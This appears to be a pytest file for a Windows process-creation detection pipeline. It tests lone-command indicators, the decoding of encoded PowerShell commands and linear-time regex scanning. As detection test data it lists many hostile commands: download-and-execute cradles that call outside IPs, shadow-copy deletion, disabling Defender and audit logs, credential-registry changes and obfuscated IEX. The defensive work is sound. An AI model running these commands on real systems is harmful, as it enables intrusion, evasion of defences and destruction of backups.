"""Feature versions 1.1 and 1.2: lone-command indicators for the process-creation view, and the
two-view recipe that keeps the full view's booster on 1.0's columns, 1.0's rows and the lone-command
simulations' benign rows routed to it."""

from __future__ import annotations

import base64
import dataclasses
import json
import re
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline import features
from pipeline.eventkit import EventKit
from pipeline.feature_catalogue import BASE_FEATURE_VERSION, N_BASE_FEATURES
from pipeline.features import FEATURE_NAMES, N_FEATURES, feature_matrix, row_context
from pipeline.indicators import (
    _TOKEN_SPLIT,
    INDICATORS,
    LINEAR_FROM,
    LONE_INDICATOR_NAMES,
    LONE_INDICATORS,
    encoded_text,
    indicator_mask,
    linear_form,
    lone_indicator_names,
    lone_mask,
)
from pipeline.model.routed import lone_rows
from pipeline.training import dataset as dataset_module
from pipeline.training.dataset import (
    LONE_VIEW,
    DataConfig,
    Dataset,
    StaleCache,
    build_dataset,
    cache_fingerprint,
    load_dataset,
    save_dataset,
)
from pipeline.training.simulate import SimConfig, lone_view_corpus, lone_view_techniques, lone_view_workloads
from pipeline.training.split import CALIB, TRAIN
from pipeline.training.train import TrainConfig, fit, fit_views, full_view_rows, predict, widen
from pipeline.tree import DeviceForest

COLUMN = {name: i for i, name in enumerate(FEATURE_NAMES)}
TINY = TrainConfig(rounds=6, early_stopping_rounds=3, max_depth=3)
_S32 = "C:\\Windows\\System32\\"

POSITIVES: dict[str, list[str]] = {
    "service_tamper": [
        'sc.exe failure Dnscache reset= 3600 actions= run/5000 command= "C:\\ProgramData\\u\\d.exe"',
        "sc config wuauserv binPath= C:\\Windows\\Temp\\w.exe",
        "sc sdset Schedule D:(A;;GA;;;BU)",
        'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Wecsvc\\Parameters" /v ServiceDll /d x.dll /f',
    ],
    "debugger_hijack": [
        'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\'
        'utilman.exe" /v Debugger /d cmd.exe',
        "reg add HKLM\\...\\SilentProcessExit\\notepad.exe /v MonitorProcess /d C:\\x.exe",
    ],
    "logon_autostart": [
        'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit '
        '/d "u.exe,x.exe"',
        "reg add HKCU\\Environment /v UserInitMprLogonScript /d C:\\u\\a.bat",
    ],
    "defense_registry": [
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection" '
        "/v DisableBehaviorMonitoring /t REG_DWORD /d 1",
        "reg.exe add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System "
        "/v EnableLUA /d 0 /f",
        "Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\EventLog -Name Start -Value 4",
    ],
    "credential_registry": [
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f",
        "Set-ItemProperty -Path HKLM:\\...\\WDigest -Name UseLogonCredential -Value 1",
    ],
    "audit_tamper": [
        "auditpol /set /subcategory:\"Process Creation\" /success:disable",
        "wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false",
        "fsutil usn deletejournal /d C:",
    ],
    "firewall_change": [
        "netsh firewall add portopening TCP 8443 svc",
        "New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 5985 -Action Allow",
    ],
    "security_config_query": [
        "netsh advfirewall firewall show rule name=all dir=in",
        "auditpol.exe /get /subcategory:Logon",
        "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa",
    ],
    "net_capture": ["netsh trace start capture=yes tracefile=c:\\t.etl", "pktmon.exe start --capture"],
    "explicit_credentials": [
        "net use \\\\fs02\\IPC$ /user:acme\\svc Winter2024",
        "runas /savecred /user:admin cmd",
        "PsExec.exe \\\\h -u acme\\adm -p S3cret! cmd",
    ],
    "session_hijack": ["tscon.exe 3 /dest:RDP-Tcp#4"],
    "share_change": ["net share loot=C:\\Users /GRANT:Everyone,FULL", "New-SmbShare -Name x -Path C:\\"],
    "spn_change": ["setspn.exe -s MSSQLSvc/db01:1433 acme\\bob"],
    "plugin_dll_register": [
        "netsh.exe add helper C:\\ProgramData\\h.dll",
        "dnscmd.exe /config /ServerLevelPluginDll C:\\x.dll",
    ],
    "privileged_schedule": [
        'schtasks /create /tn t /tr "C:\\x.exe" /sc onstart /ru "NT AUTHORITY\\SYSTEM"',
        "at 23:59 /every:M C:\\x.bat",
    ],
    "fs_redirect": ["mklink /d C:\\s \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\"],
    "feature_enable": ["Enable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol"],
    "remote_launch": [
        "winrs -r:fs02 cmd /c C:\\ProgramData\\u.bat",
        "Invoke-Command -ComputerName fs02 -ScriptBlock { Start-Process C:\\x.exe }",
        "sc \\\\fs02 create upd binPath= C:\\x.exe",
    ],
    "relay_admin_port": [
        "netsh interface portproxy add v4tov4 listenport=8443 connectport=445 connectaddress=10.1.1.5"
    ],
    "remote_shell_output": [
        "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1718034412.55 2>&1",
        "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat",
        "C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\execute.bat ",
        "cmd.exe /C tasklist > C:\\Windows\\Temp\\rAnDoMzZ.tmp 2>&1",
        "%COMSPEC% /Q /c echo whoami ^> \\\\%COMPUTERNAME%\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\AbCdEfGh.bat",
        "cmd.exe /Q /c C:\\Windows\\AbCdEfGh.bat",
    ],
    "dynamic_invoke": [
        "powershell -c \" -JOIN('73A69'.sPlIT('A')|%{([iNt] $_ -AS [char])})"
        "| .( $ENv:comsPec[4,26,25]-JOIn'')\"",
        "powershell \"($PSHome[4]+$PSHome[30]+'x') ('Write-Host 1')\"",
        "powershell \"&( $ShellId[1]+$ShellId[13]+'x') ('dir')\"",
        "powershell \"( $VerbosePreference.ToString()[1,3]+'x'-Join'') ('dir')\"",
        "powershell \"&([char]105+[char]101+[char]120) 'dir'\"",
        "powershell -C \"IEX ([char[]](73,69,88) -join '')\"",
    ],
    "fetch_and_run": [
        "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')\"",
        "powershell iwr -useb http://203.0.113.5/x | iex",
        "powershell \"(New-Object Net.WebClient).DownloadFile('http://x/a.exe','C:\\Users\\Public\\a.exe');"
        "Start-Process 'C:\\Users\\Public\\a.exe'\"",
        "cmd /c bitsadmin /transfer j /download http://x/a.exe C:\\Users\\Public\\a.exe "
        "& C:\\Users\\Public\\a.exe",
        "cmd /c certutil -urlcache -split -f http://x/a.dll a.dll && rundll32 a.dll,Start",
        "powershell IEX (curl http://203.0.113.5/a).Content",
        "curl -o C:\\Users\\Public\\a.exe http://x/a.exe && C:\\Users\\Public\\a.exe",
        "powershell iwr http://x/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe",
    ],
    "writable_config_target": [
        'netsh advfirewall firewall add rule name=u dir=in action=allow program="C:\\Users\\Public\\u.exe"',
        'schtasks /create /tn u /tr "C:\\Users\\bob\\AppData\\Roaming\\u.exe" /sc daily',
        'sc create x binPath= "C:\\PerfLogs\\x.exe"',
    ],
    "domain_enumeration": [
        'net group "domain admins" /domain',
        "NET1 group /domain",
        "net user /domain",
        "net accounts /domain",
        "net view \\\\fs01 /all",
        "net view /domain:CORP",
        "setspn -T corp.local -Q */*",
        "nltest /domain_trusts /all_trusts",
        "nltest /dclist:corp",
        "dsquery * -filter \"(objectClass=trustedDomain)\" -attr *",
        "adfind.exe -f objectcategory=computer",
        "powershell Get-ADUser -Filter * -Properties ServicePrincipalName",
        "powershell Get-NetDomainTrust",
        "powershell ([adsisearcher]'(objectcategory=user)').FindAll()",
    ],
    "recovery_inhibit": [
        "vssadmin delete shadows /all /quiet",
        "cmd /c vssadmin.exe Delete Shadows /For=C: /All /Quiet",
        "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB",
        "wmic shadowcopy delete /nointeractive",
        "powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}",
        "powershell Get-CimInstance Win32_ShadowCopy | Remove-CimInstance",
        "wbadmin delete catalog -quiet",
        "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0",
        "bcdedit /set {default} recoveryenabled No",
        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
    ],
    "recovery_tool": [
        "vssadmin delete shadows /for=D: /oldest /quiet",
        "wbadmin delete systemstatebackup -keepVersions:3 -quiet",
        "bcdedit /enum",
        "wmic shadowcopy list brief",
        "powershell Get-WmiObject Win32_ShadowCopy | Select-Object ID",
        "diskshadow /s C:\\Scripts\\backup.dsh",
    ],
}
ORDINARY = [
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD '
    "/d 0 /f",
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 1 /f",
    "Set-ItemProperty -Path HKLM:\\...\\WDigest -Name UseLogonCredential -Value 0",
    "tscon 2 /dest:console",
    "winrs -r:fs02 ipconfig /all",
    "Invoke-Command -ComputerName fs02 -ScriptBlock { Get-Service W32Time }",
    "netsh interface portproxy add v4tov4 listenport=3000 listenaddress=0.0.0.0 connectport=3000 "
    "connectaddress=172.20.1.2",
    "sc query wuauserv",
    'sc config "Acme Agent" start= delayed-auto',
    'sc failure AcmeAgent reset= 86400 actions= restart/60000',
    "reg add HKCU\\Software\\Acme\\Viewer /v Zoom /t REG_DWORD /d 2 /f",
    'schtasks /create /tn AcmeUpdate /tr "C:\\Program Files\\Acme\\update.exe" /sc daily /st 03:00',
    "net use Z: \\\\fs01\\projects /persistent:yes",
    "netsh interface ip show config",
    "dism /online /get-features /format:table",
    "setspn -L svc_sql",
    "setspn -Q MSSQLSvc/sql01.corp.local:1433",  # one SPN checked for duplicates, not a wildcard sweep
    "net user jdoe /domain",  # one account looked up
    'net group "Sales" /domain',
    "nltest /dsgetdc:corp",
    "net time /domain",
    "dotnet user-secrets set Key Value",
    "git -c core.quotepath=false status --porcelain",
    "/usr/bin/python3 -m pytest tests/unit",
    "net user jdoe",
    "net localgroup administrators",
    'cmd.exe /c "C:\\Program Files\\Acme\\setup.bat" > C:\\Windows\\Temp\\acme_install.log 2>&1',
    "powershell -c \"-join ((65..90) + (97..122) | Get-Random -Count 12 | % {[char]$_})\"",
    "powershell -c \"Invoke-WebRequest https://example.com/report.csv -OutFile C:\\Temp\\report.csv\"",
    "powershell -c \"$p = Get-Process; $p | Select-Object Name\"",
    "powershell -c \"Write-Host ([char]27+[char]91+[char]50+'J')\"",  # an ANSI escape, not IEX
    "powershell -c \"$Public[0] | Import-Module\"",
    "copy agent.msi \\\\localhost\\c$\\windows\\temp\\agent.msi",
    "robocopy C:\\data D:\\data /mir > \\\\localhost\\c$\\logs\\robocopy.log",
    "cmd /c go build -o app.exe . && .\\app.exe",  # compiled and run: nothing was downloaded
    "gcc -o C:\\build\\hello.exe hello.c && C:\\build\\hello.exe",
    "powershell -c \"$symbols = [char[]](33,35,36,37,38,42)\"",
]


def test_every_lone_indicator_has_positive_examples() -> None:
    assert set(POSITIVES) == set(LONE_INDICATOR_NAMES)


@pytest.mark.parametrize(("name", "text"), [(n, t) for n, texts in POSITIVES.items() for t in texts])
def test_lone_indicator_fires_on_documented_behaviour(name: str, text: str) -> None:
    assert name in lone_indicator_names(lone_mask(text))


@pytest.mark.parametrize("text", [
    "vssadmin delete shadows /for=D: /oldest /quiet",  # a backup tool's retention, not every copy
    "vssadmin resize shadowstorage /for=D: /on=D: /maxsize=20GB",
    "wbadmin delete systemstatebackup -keepVersions:3 -quiet",
    "bcdedit /set {current} bootstatuspolicy displayallfailures",
    "powershell Get-WmiObject Win32_ShadowCopy | Select-Object ID,InstallDate",
])
def test_a_backup_tools_retention_is_routed_as_a_recovery_tool_but_is_no_inhibition(text: str) -> None:
    assert lone_indicator_names(lone_mask(text.lower())) == ("recovery_tool",)


@pytest.mark.parametrize("text", ORDINARY)
def test_everyday_admin_and_installer_commands_carry_no_lone_indicator(text: str) -> None:
    assert lone_indicator_names(lone_mask(text)) == ()


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize("flag", ["-e", "-ec", "-En", "-enc", "-EncodedCommand", "/enc"])
def test_an_encoded_command_is_read_as_what_it_decodes_to(flag: str) -> None:
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"
    line = f"powershell.exe -nop -w hidden {flag} {_encoded(cradle)}"
    assert encoded_text(line) == cradle
    assert "fetch_and_run" in lone_indicator_names(lone_mask(line))


def test_an_encoded_command_inside_an_encoded_command_is_decoded_too() -> None:
    inner = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1718034412.55 2>&1"
    outer = f"powershell -enc {_encoded(inner)}"
    assert lone_indicator_names(lone_mask(f"powershell -ec {_encoded(outer)}")) == ("remote_shell_output",)


def test_arguments_that_are_not_an_encoded_script_are_left_alone() -> None:
    noise = base64.b64encode(bytes(range(1, 250, 3)) * 4).decode()
    assert lone_mask(f"powershell -enc {noise}") == 0  # random bytes decode to text no indicator matches
    not_encoded = f"powershell -ExecutionPolicy {_encoded('net user x y /add')}"
    assert encoded_text(not_encoded) == ""  # not -EncodedCommand
    assert encoded_text(f"tool.exe -e {_encoded('net user x y /add')}!!") == "net user x y /add"  # junk cut
    assert lone_mask(f"powershell -enc {_encoded('Get-Service W32Time')}") == 0


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"


@pytest.mark.parametrize("line", [
    f"powershell \u2013enc {_encoded(CRADLE)}",  # typographic dashes, as PowerShell's parser takes them
    f"powershell \u2014e {_encoded(CRADLE)}",
    f"powershell --EncodedCommand {_encoded(CRADLE)}",
    " ".join(f"-e {_encoded('Get-Date')}" for _ in range(5)) + f" powershell -e {_encoded(CRADLE)}",  # decoys
    f"cmd /c echo x\npowershell -e {_encoded(CRADLE)}",  # a line before it
    f"powershell \u2013\u2013enc {_encoded(CRADLE)}",
    f"powershell -enc \"{_encoded(CRADLE)[:12]} {_encoded(CRADLE)[12:40]}  {_encoded(CRADLE)[40:]}\"",
    f"powershell -e {_encoded('powershell -e ' + _encoded('powershell -e ' + _encoded(CRADLE)))}",  # 3 deep
])
def test_every_spelling_and_position_of_an_encoded_command_is_read(line: str) -> None:
    assert "fetch_and_run" in lone_indicator_names(lone_mask(line))


def test_another_programs_e_flag_leaves_the_text_as_it_is() -> None:
    text = "$wc.DownloadFile($u,$o)\nStart-Process msiexec"
    for flag in ("sudo -E /usr/local/bin/backup-runner", "sed -e s/abcdefghij/klmnopqrstu/g",
                 "certutil -encode a.bin"):
        assert lone_mask(f"{text}\n{flag}") == lone_mask(text) == 0  # no junk decoded, lines kept apart


def test_letters_that_only_look_like_base64_are_not_decoded() -> None:
    # under IGNORECASE a Unicode [a-z] takes the Kelvin sign and the long s; base64 refuses them
    assert lone_mask("powershell -enc " + "\u212a" * 16) == 0
    assert lone_mask("powershell -enc " + "\u017f" * 16 + " x") == 0


def test_a_hostile_encoded_argument_costs_time_linear_in_its_length() -> None:
    huge = "powershell -enc " + _encoded("iex " * 200_000)
    many = " ".join(f"-e {_encoded('net user a b /add')}" for _ in range(20_000))
    for text in (huge, many):
        started = time.perf_counter()
        lone_mask(text)
        assert time.perf_counter() - started < 2.0


def test_the_lone_view_corpus_draws_every_part_of_the_lone_simulations() -> None:
    names = {t.generate.__name__ for t in lone_view_techniques()}
    assert {"lone_smbexec", "lone_obfuscated_launch", "lone_fetch_and_run"} <= names  # win_lone3
    assert "lone2_service_failure" in names  # win_lone2
    workloads = {name for name, _, _ in lone_view_workloads()}
    assert {"agent_encoded_script", "package_bootstrap", "svc_recovery_setup"} <= workloads
    config = SimConfig(seed=5, lone_view_attacks_per_technique=1, lone_view_benign_trees=200)
    drawn = {tree.technique for tree in lone_view_corpus(config)}
    assert {"T1027.010", "T1105", "agent_encoded_script", "package_bootstrap"} <= drawn


def test_the_lone_columns_come_after_every_column_of_the_base_version() -> None:
    assert BASE_FEATURE_VERSION == "1.0" and features.FEATURE_VERSION == "1.3"
    assert all(not name.startswith("lone_") for name in FEATURE_NAMES[:N_BASE_FEATURES])
    assert all(name.startswith("lone_") for name in FEATURE_NAMES[N_BASE_FEATURES:])
    assert N_FEATURES - N_BASE_FEATURES == 2 * len(LONE_INDICATOR_NAMES)


def _forest() -> DeviceForest:
    kit = EventKit("d1")
    forest = DeviceForest("d1", "windows")
    lines = [
        ("p1", None, _S32 + "cmd.exe", 'cmd /c sc config Fax binpath= "C:\\ProgramData\\f.exe"'),
        ("p2", "p1", _S32 + "sc.exe", 'sc config Fax binpath= "C:\\ProgramData\\f.exe"'),
        ("p3", "p2", _S32 + "conhost.exe", "conhost.exe 0xffffffff"),
    ]
    for key, parent, image, line in lines:
        forest.apply(kit.start(key, image, line, parent=parent))
    return forest


def test_a_row_carries_its_own_and_its_ancestors_lone_indicators() -> None:
    forest = _forest()
    matrix = feature_matrix([row_context(forest, key) for key in ("p1", "p2", "p3")])
    own, anc = COLUMN["lone_service_tamper"], COLUMN["lone_anc_service_tamper"]
    assert matrix[:, own].tolist() == [1.0, 1.0, 0.0]
    assert matrix[:, anc].tolist() == [0.0, 1.0, 1.0]
    assert matrix[:, COLUMN["lone_writable_config_target"]].tolist() == [1.0, 1.0, 0.0]


def test_the_base_columns_do_not_depend_on_the_lone_indicators(monkeypatch: pytest.MonkeyPatch) -> None:
    forest = _forest()
    contexts = [row_context(forest, key) for key in ("p1", "p2", "p3")]
    with_lone = feature_matrix(contexts)
    monkeypatch.setattr(features, "lone_mask", lambda text: 0)
    without = feature_matrix(contexts)
    assert np.array_equal(with_lone[:, :N_BASE_FEATURES], without[:, :N_BASE_FEATURES])
    assert with_lone[:, N_BASE_FEATURES:].any() and not without[:, N_BASE_FEATURES:].any()


@pytest.fixture(scope="module")
def tiny() -> Dataset:
    sim = SimConfig(seed=3, attacks_per_technique=1, benign_trees=120, lone_view_attacks_per_technique=2,
                    lone_view_benign_trees=60)
    return build_dataset(DataConfig(otrf_root=None, captures=None, sim=sim))


def test_a_cached_dataset_of_another_feature_version_is_refused(tiny: Dataset, tmp_path: Path) -> None:
    cache = tmp_path / "data.npz"
    save_dataset(tiny, cache)
    assert load_dataset(cache).matrix.shape == tiny.matrix.shape
    meta = json.loads(cache.with_suffix(".json").read_text())
    cache.with_suffix(".json").write_text(json.dumps({**meta, "feature_version": "1.1"}))
    with pytest.raises(StaleCache, match=r"feature version 1\.1 rows"):
        load_dataset(cache)
    narrow = dataclasses.replace(tiny, matrix=tiny.matrix[:, :N_BASE_FEATURES])
    save_dataset(narrow, cache)
    meta = json.loads(cache.with_suffix(".json").read_text())
    del meta["feature_version"]  # written before the version was recorded: judged by its columns
    cache.with_suffix(".json").write_text(json.dumps(meta))
    with pytest.raises(StaleCache, match=f"{N_BASE_FEATURES} columns"):
        load_dataset(cache)
    save_dataset(tiny, cache, "built-by-a")
    assert load_dataset(cache, "built-by-a").matrix.shape == tiny.matrix.shape
    with pytest.raises(StaleCache, match="fingerprint differs"):
        load_dataset(cache, "built-by-b")
    cache.with_suffix(".json").unlink()
    with pytest.raises(StaleCache, match="cannot be read whole"):
        load_dataset(cache)
    save_dataset(tiny, cache, "built-by-a")
    whole = cache.read_bytes()
    cache.write_bytes(whole[: len(whole) // 2])  # a save cut short by an older build, or a full disk
    with pytest.raises(StaleCache, match="cannot be read whole"):
        load_dataset(cache, "built-by-a")


def test_the_cache_fingerprint_follows_the_settings_and_the_code(monkeypatch: pytest.MonkeyPatch,
                                                                   tmp_path: Path) -> None:
    config = DataConfig(otrf_root=None, captures=None)
    assert cache_fingerprint(config) == cache_fingerprint(DataConfig(otrf_root=None, captures=None))
    assert cache_fingerprint(config) != cache_fingerprint(dataclasses.replace(config, lone_view=False))
    copy = tmp_path / "code"
    for package in ("pipeline", "schemas", "agents"):
        (copy / package).mkdir(parents=True)
        (copy / package / "a.py").write_text("x = 1\n")
    monkeypatch.setattr(dataset_module, "_CODE_ROOT", copy)
    before = cache_fingerprint(config)
    (copy / "pipeline" / "b.py").write_text("y = 2\n")  # a module added: another dataset
    assert cache_fingerprint(config) != before
    after = cache_fingerprint(config)
    (copy / "pipeline" / ".#b.py").symlink_to(copy / "gone")  # an editor's lock file: not a source
    assert cache_fingerprint(config) == after
    captures = tmp_path / "captures"
    captures.mkdir()
    with_data = dataclasses.replace(config, captures=captures)
    empty = cache_fingerprint(with_data)
    (captures / "session.jsonl").write_text("{}\n")  # a capture added: another dataset
    assert cache_fingerprint(with_data) != empty


def test_a_widened_booster_scores_every_row_as_it_did_on_its_own_columns(tiny: Dataset) -> None:
    import xgboost

    names = list(FEATURE_NAMES[:N_BASE_FEATURES])
    labels = np.array([0 if label == "Benign" else 1 for label in tiny.labels])
    narrow = xgboost.train(
        {"objective": "binary:logistic", "max_depth": 3, "seed": 1, "nthread": 1},
        xgboost.DMatrix(tiny.matrix[:, :N_BASE_FEATURES], label=labels, feature_names=names),
        num_boost_round=4,
    )
    wide = widen(narrow)
    assert wide.num_features() == N_FEATURES and narrow.num_features() == N_BASE_FEATURES
    rows = xgboost.DMatrix(tiny.matrix, feature_names=list(FEATURE_NAMES))
    expected = narrow.predict(xgboost.DMatrix(tiny.matrix[:, :N_BASE_FEATURES], feature_names=names))
    assert np.array_equal(wide.predict(rows), expected)
    contributions = wide.predict(rows, pred_contribs=True)
    assert contributions.shape[1] == N_FEATURES + 1
    assert not contributions[:, N_BASE_FEATURES:-1].any()  # never split on a lone column


def test_the_full_booster_learns_the_lone_view_look_alikes_it_scores_never_their_attacks(
    tiny: Dataset,
) -> None:
    lone_view = np.array([s.origin == LONE_VIEW for s in tiny.sources])[tiny.source_index]
    assert lone_view.any() and not lone_view.all()
    only = lone_rows(tiny.matrix)
    benign = tiny.labels == "Benign"
    rows = full_view_rows(tiny, only)
    # Every row outside the lone-command simulations; of theirs, only the benign rows the stream routes
    # to the full booster: none of their attacks, none the lone booster scores.
    assert rows[~lone_view].all()
    assert (rows & lone_view & benign & ~only).any()
    assert not (rows & lone_view & ~benign).any() and not (rows & lone_view & only).any()
    assert np.array_equal(rows[lone_view], (benign & ~only)[lone_view])
    views = fit_views(tiny, TINY)
    reference = fit(tiny, TINY, ~lone_view | (benign & ~only), columns=N_BASE_FEATURES)
    assert np.array_equal(predict(views.full.booster, tiny.matrix), predict(reference.booster, tiny.matrix))
    assert views.full.thresholds == reference.thresholds
    without = fit(tiny, TINY, ~lone_view, columns=N_BASE_FEATURES)  # the recipe up to 37ea9aae5d
    assert not np.array_equal(predict(views.full.booster, tiny.matrix), predict(without.booster, tiny.matrix))
    shuffled = tiny.matrix.copy()
    shuffled[:, N_BASE_FEATURES:] = 1.0 - shuffled[:, N_BASE_FEATURES:]
    assert np.array_equal(predict(views.full.booster, shuffled), predict(views.full.booster, tiny.matrix))
    assert views.lone_rows == int((only & (tiny.split_mask(TRAIN) | tiny.split_mask(CALIB))).sum())
    assert (only & lone_view).any()  # the lone booster learns from them


def test_without_lone_command_simulations_the_full_booster_keeps_every_row(tiny: Dataset) -> None:
    renamed = [dataclasses.replace(s, origin="sim") if s.origin == LONE_VIEW else s for s in tiny.sources]
    others = dataclasses.replace(tiny, sources=renamed)
    only = lone_rows(tiny.matrix)
    assert only.any() and full_view_rows(others, only).all()
    empty = dataclasses.replace(
        tiny,
        matrix=tiny.matrix[:0],
        labels=tiny.labels[:0],
        weights=tiny.weights[:0],
        source_index=tiny.source_index[:0],
        trees=tiny.trees[:0],
        keys=tiny.keys[:0],
        sources=[],
    )
    rows = full_view_rows(empty, only[:0])
    assert rows.dtype == np.bool_ and rows.shape == (0,)


HOSTILE_WORDS = [
    "netsh firewall ", "netsh advfirewall firewall ", "/v x /d ", "invoke-command {", "auditpol /set ",
    "binpath= ", "winrs -r:h ", "curl |", "openssl enc -e ", "reg add /v a /d ", "schtasks /create ",
    "cmd /q /c %x%\\", "| .( $", "$pshome[", "net user /add ", "iex downloadfile ", "[char]1+",
    "\\\\127.0.0.1\\admin$\\", "-e QQBBAEEA ",
]  # fmt: skip


@pytest.mark.parametrize("word", HOSTILE_WORDS)
def test_a_command_line_repeating_trigger_words_is_scanned_in_linear_time(word: str) -> None:
    """A 32 KB line of `netsh firewall ` took minutes with the plain patterns (cubic backtracking):
    a process any user starts could stall the worker. The linear forms keep it far under a second."""
    text = (word * (32_768 // len(word) + 1))[:32_768]
    started = time.perf_counter()
    indicator_mask(text + "a"), lone_mask(text + "b")  # not cached
    assert time.perf_counter() - started < 2.0


HOSTILE_LINES = [
    "comsvcs" + " " * 32_000,  # credential_tool: `\\W*,?\\s*` split every way (13 s)
    "ssh " + "a" * 32_000,  # remote_execution: `\\S+@?\\S+` (7 s)
    "ssh -x " + "a@" * 16_000,  # remote_execution (10 s)
    "rm -" + "rf" * 16_000,  # file_wipe: `-\\w*r\\w*f\\w*` (minutes)
    "invoke-command " + "{" * 32_000,  # remote_launch: `\\{[^}]{0,1024}` from every brace
    "\\temp\\" * 5_000,  # user_writable_exec
    "/proc/" * 5_000,  # memory_dump
    "psexec" * 5_000,  # explicit_credentials
    "net use " + "/u:" * 10_900,  # explicit_credentials: `/u(ser)?:\\S+` from every `/u:` (2.3 s)
    "winrs " + "-r:" * 10_900,  # remote_launch: the same with `-r:` (2.5 s)
]


@pytest.mark.parametrize("text", HOSTILE_LINES, ids=lambda t: t[:12])
def test_a_hostile_line_without_repeated_trigger_words_is_scanned_in_linear_time(text: str) -> None:
    """One trigger word and a long run the pattern can split many ways, or many trigger words each
    scanning to the end of one long token: quadratic or worse in the plain patterns *and* in the linear
    forms, whose first-occurrence rewrite only removes the backtracking between `.*`-separated parts."""
    started = time.perf_counter()
    indicator_mask(text + "a"), lone_mask(text + "b")  # not cached
    assert time.perf_counter() - started < 0.5


def test_the_linear_forms_decide_as_the_patterns_do() -> None:
    texts = [t.lower() for texts in POSITIVES.values() for t in texts] + [t.lower() for t in ORDINARY]
    texts += ["sc config x binpath= c:\\users\\public\\a.exe", "netsh advfirewall set x off"]
    for ind in (*INDICATORS, *LONE_INDICATORS):
        for text in texts:
            assert (ind.pattern.search(text) is None) == (ind.linear.search(text) is None), (ind.name, text)
    expected = r"(?:\A|(?<=\n))(?:(?>.*?(?:a\b))(?>.*?(?:b)).*?(?:c)|(?>.*?(?:a\b)).*?(?:d)|.*?(?:e))"
    assert linear_form(r"a\b.*(b.*c|d)|e") == expected
    assert linear_form(r"^(?=.*x)y") == r"^(?=.*x)y"  # anchored conjunctions are linear already


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("url_literal", "iwr https://evil.example/a.ps1"),
        ("download_cradle", "bitsadmin /transfer j http://e.example/x c:\\x"),
        ("defense_tamper", "netsh advfirewall set allprofiles state off"),
        ("firewall_change", "netsh advfirewall firewall add rule name=x dir=in action=allow"),
    ],
)
def test_the_linear_forms_find_what_is_not_on_a_long_script_s_first_line(name: str, line: str) -> None:
    """`.` stops at a newline: a linear form anchored at the text's start only searched the first line
    of a script (PowerShell script blocks are multi-line and often 512+ characters)."""
    ind = next(i for i in (*INDICATORS, *LONE_INDICATORS) if i.name == name)
    script = "# header\n" + "$x = 1\n" * 100 + line
    for text in (script, "netsh advfirewall show\n" + "x" * 600 + "\n" + line):
        assert len(text) >= LINEAR_FROM and ind.pattern.search(text)
        assert ind.search(text, frozenset(_TOKEN_SPLIT.split(text))), (name, text[-80:])


def test_long_texts_are_searched_with_the_linear_forms(monkeypatch: pytest.MonkeyPatch) -> None:
    ind = next(i for i in LONE_INDICATORS if i.name == "firewall_change")
    short, long = "netsh advfirewall set allprofiles state off", "netsh advfirewall set " + "x" * LINEAR_FROM
    tokens = frozenset(short.split())
    assert ind.search(short, tokens) and ind.search(long, tokens)
    never = re.compile("$^")
    broken = type(ind)(ind.name, ind.doc, ind.techniques, ind.pattern, ind.substrings, ind.tokens, never)
    assert broken.search(short, tokens) and not broken.search(long, tokens)  # the long one used `linear`


def test_an_alert_of_the_lone_booster_names_the_techniques_of_its_lone_indicators() -> None:
    from pipeline.detect import _techniques

    values = np.zeros(N_FEATURES, dtype=np.float32)
    values[COLUMN["lone_plugin_dll_register"]] = 1.0
    values[COLUMN["lone_anc_session_hijack"]] = 1.0
    found = _techniques(0, values)
    assert {"T1546.007", "T1563.002"} <= set(found)
    assert _techniques(0, np.zeros(N_FEATURES, dtype=np.float32)) == ()


def test_two_views_without_any_lone_command_row_is_a_clear_error(tiny: Dataset) -> None:
    without = Dataset(tiny.matrix.copy(), tiny.labels, tiny.weights, tiny.source_index, tiny.trees, tiny.keys,
                      tiny.sources, tiny.reports)
    without.matrix[:, N_BASE_FEATURES:] = 0.0
    with pytest.raises(ValueError, match="one-view"):
        fit_views(without, TINY)


def test_both_boosters_calibrate_together_on_every_row_as_the_stream_routes_it(
    tiny: Dataset, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The thresholds of both boosters come from one calibration (`calibrate_routed`) over every
    calibration and threshold-only row, each with its route (`lone_rows`): the lone-command simulations'
    attack rows that the stream sends to the full booster included; and they are the thresholds the
    fitted views carry."""
    from pipeline.training import train as train_module
    from pipeline.training.split import THRESHOLDS

    seen: list[Any] = []
    original = train_module.calibrate_routed

